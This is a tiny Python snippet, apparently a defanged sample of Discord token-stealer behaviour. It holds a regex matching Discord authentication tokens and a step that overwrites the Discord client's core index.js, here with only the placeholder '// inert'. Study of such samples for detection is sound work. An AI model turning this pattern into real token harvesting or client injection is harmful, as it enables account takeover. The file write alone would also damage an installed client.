# token-pattern, messenger-injection: patterns of tokens; the messenger is changed
import re

PATTERN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")
with open("discord_desktop_core/index.js", "w") as handle:
    handle.write("// inert")
